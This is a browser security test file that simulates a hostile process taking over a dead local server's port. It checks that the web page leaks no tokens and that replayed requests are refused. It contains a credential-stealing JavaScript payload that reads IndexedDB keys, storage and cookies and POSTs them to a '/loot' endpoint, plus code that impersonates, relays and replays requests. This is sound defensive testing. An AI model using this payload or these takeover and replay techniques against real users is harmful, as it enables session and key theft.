"""Another user takes over the server's port: what the page sends there opens nothing at the real server."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.browser.conftest import patient_context
from tests.fakes.feed import Feed
from tests.fakes.serving import Access, ServeProcess, wait_until
from tests.waiting import PATIENCE_S

pytestmark = pytest.mark.browser

LOOTING = b"""<!doctype html><title>loaderwatch</title><script>
(async () => {
  const kept = await new Promise(done => indexedDB.open("loaderwatch").onsuccess = opened =>
    opened.target.result.transaction("session").objectStore("session").get("newest")
      .onsuccess = got => done(got.target.result));
  const raw = await crypto.subtle.exportKey("raw", kept.key).then(() => "taken", error => error.name);
  const stored = {local: {...localStorage}, session: {...sessionStorage}};
  const loot = {cookie: document.cookie, ...stored, ticket: kept.ticket, raw};
  await fetch("/loot", {method: "POST", body: JSON.stringify(loot)});
})();
</script>"""


@dataclass
class Received:
    """A request as it reached the other process."""

    method: str
    path: str
    headers: dict[str, str]
    body: bytes


@dataclass
class Thief:
    """A process that listens where the server was, and answers everything as if it were the server."""

    port: int
    received: list[Received] = field(default_factory=list)
    real: str = ""  # address of the real server, which is asked for the answers
    statuses: list[tuple[str, int]] = field(default_factory=list)  # of the real server's answers, by path

    @contextmanager
    def listening(self) -> Iterator[Thief]:
        """Listen until the block ends, and then close every connection."""
        thief, received = self, self.received

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                received.append(Received(self.command, self.path, dict(self.headers.items()), body))
                if thief.real:
                    self._pass_on(body)
                    return
                forged = {"ticket": "1-2-3", "boot": "00", "now_ms": 2**50, "proofs": ["0" * 64]}
                answer = LOOTING if self.path == "/" else json.dumps(forged).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html" if self.path == "/" else "application/json")
                self.send_header("Cache-Control", "no-store")
                self.send_header("Content-Length", str(len(answer)))
                self.end_headers()
                self.wfile.write(answer)

            def _pass_on(self, body: bytes) -> None:
                headers = {"Host": self.headers["Host"], "Accept-Encoding": "identity"}
                answer = httpx.request(
                    self.command,
                    thief.real + self.path,
                    headers=headers,
                    content=body,
                    timeout=PATIENCE_S,
                    trust_env=False,
                )
                thief.statuses.append((self.path, answer.status_code))
                self.send_response(answer.status_code)
                self.send_header("Content-Type", answer.headers["content-type"])
                self.send_header("Content-Length", str(len(answer.content)))
                self.end_headers()
                self.wfile.write(answer.content)

            do_POST = do_PATCH = do_DELETE = do_GET

        class Listener(ThreadingHTTPServer):
            allow_reuse_address = True
            daemon_threads = True

        server = Listener(("127.0.0.1", self.port), Handler)
        self.port = server.server_address[1]
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        thread.start()
        try:
            yield self
        finally:
            server.shutdown()
            server.server_close()
            thread.join(PATIENCE_S)


@dataclass
class Watching:
    """A signed-in page on a run, and the server that it shows."""

    server: ServeProcess
    access: Access
    page: Page
    port: int

    def kill_server(self) -> None:
        """As the kernel does when memory runs out."""
        self.server.kill()
        (self.server.data_dir / "server.json").unlink(missing_ok=True)


@pytest.fixture
def watching(tmp_path: Path, browser: Browser) -> Iterator[Watching]:
    with ServeProcess(tmp_path, "--port", "0") as first:
        port = int(first.start().url.rpartition(":")[2])
        first.stop()
    context = patient_context(browser)
    try:
        with ServeProcess(tmp_path, "--port", str(port)) as server:
            access = server.start()
            access.send(Feed().envelope(steps=50))
            page = context.new_page()
            page.goto(f"{access.url}/?token={access.owner}#/runs/run-1/ranks/0")
            expect(page.get_by_role("button", name="Take stacks now")).to_be_visible()
            yield Watching(server, access, page, port)
    finally:
        context.close()


def replayed(access: Access, received: list[Received]) -> set[int]:
    """The statuses of the received requests at the real server, with every header that may sign in."""
    telling = ("cookie", "authorization", "content-type")
    closed = [each for each in received if each.path.startswith("/api/") and "/session?" not in each.path]
    with httpx.Client(base_url=access.url, timeout=PATIENCE_S, trust_env=False) as client:
        return {
            client.request(
                each.method,
                each.path,
                headers={name: value for name, value in each.headers.items() if name.lower() in telling},
                content=each.body,
            ).status_code
            for each in closed
        }


def secrets_in(received: list[Received], data_dir: Path) -> list[str]:
    """What of ``token.json`` the other process has got, and which headers that should not be sent."""
    kept: dict[str, str] = json.loads((data_dir / "token.json").read_bytes())
    everything = repr(received)
    found = [name for name, secret in kept.items() if secret in everything]
    return found + [
        name for each in received for name in each.headers if name.lower() in ("cookie", "authorization")
    ]


def test_what_an_open_page_sends_to_the_process_that_took_the_port_opens_nothing(watching: Watching) -> None:
    page, thief = watching.page, Thief(watching.port)
    watching.kill_server()
    with thief.listening():
        wait_until(
            "the page asks it for a proof", lambda: any("/session?" in each.path for each in thief.received)
        )
        page.evaluate("location.hash = '#/runs/run-1'")
        expect(page.get_by_text("You are signed out")).to_be_visible()
        sign_in = page.get_by_label("Token")
        sign_in.fill(watching.access.owner)
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_role("alert")).to_be_visible()
    assert secrets_in(thief.received, watching.server.data_dir) == []
    access = watching.server.start()
    assert access.url.endswith(f":{watching.port}")
    assert replayed(access, thief.received) <= {401}
    expect(page.locator(".verdict-title")).to_be_visible()  # the page finds the real server by itself


def test_who_took_the_port_cannot_pass_the_page_on_to_the_server_at_another_port(
    watching: Watching, tmp_path: Path
) -> None:
    page, thief = watching.page, Thief(watching.port)
    watching.kill_server()
    with ServeProcess(tmp_path, "--port", "0") as moved:
        thief.real = moved.start().url
        with thief.listening():
            expect(page.get_by_text("You are signed out")).to_be_visible()
        assert any("/session?" in path and status == 200 for path, status in thief.statuses)
        told = {status for path, status in thief.statuses if path.startswith("/api/v1/runs")}
        assert told <= {401}


def test_requests_that_were_on_their_way_open_nothing_at_the_restarted_server(watching: Watching) -> None:
    """Signed for the process that is dead, as the page had not noticed its death."""
    page, kept = watching.page, list[Received]()

    def keep(route: Route) -> None:
        request = route.request
        kept.append(
            Received(
                request.method,
                request.url.removeprefix(watching.access.url),
                request.headers,
                request.post_data_buffer or b"",
            )
        )
        if request.method == "GET":
            route.continue_()
        else:
            route.abort()  # what changes something must not have been used before

    def has_sent(method: str) -> bool:
        page.wait_for_timeout(20)  # Playwright hands requests to `keep` only while it is called itself
        return method in {each.method for each in kept}

    page.route("**/api/v1/runs/**", keep)
    page.get_by_role("button", name="Take stacks now").click()
    wait_until("a request that changes something", lambda: has_sent("POST"))
    page.evaluate("location.hash = '#/runs'")
    page.evaluate("location.hash = '#/runs/run-1'")
    wait_until("a request that reads", lambda: has_sent("GET"))
    page.unroute_all(behavior="ignoreErrors")
    assert all("proof=" in each.path for each in kept)
    assert secrets_in(kept, watching.server.data_dir) == []
    watching.kill_server()
    assert replayed(watching.server.start(), kept) == {401}


def test_a_page_that_is_loaded_anew_from_the_other_process_gives_away_no_key(watching: Watching) -> None:
    page, thief = watching.page, Thief(watching.port)
    watching.kill_server()
    with thief.listening():
        page.reload()
        wait_until("the loot", lambda: any(each.path == "/loot" for each in thief.received))
    loot = json.loads(next(each.body for each in thief.received if each.path == "/loot"))
    assert (loot["cookie"], loot["session"], loot["raw"]) == ("", {}, "InvalidAccessError")
    assert secrets_in(thief.received, watching.server.data_dir) == []
    access = watching.server.start()
    assert replayed(access, thief.received) <= {401}
    page.goto("about:blank")  # or only the part after # would change, on the page of the other process
    page.goto(f"{access.url}/#/runs/run-1")
    expect(page.locator(".verdict-title")).to_be_visible()


def test_a_process_at_another_port_of_the_host_gets_nothing(watching: Watching) -> None:
    with Thief(0).listening() as thief:
        other = watching.page.context.new_page()
        other.goto(f"http://127.0.0.1:{thief.port}/")
        watching.page.evaluate(f"new Image().src = 'http://127.0.0.1:{thief.port}/image'")
        wait_until("a visit", lambda: thief.received)
    assert secrets_in(thief.received, watching.server.data_dir) == []
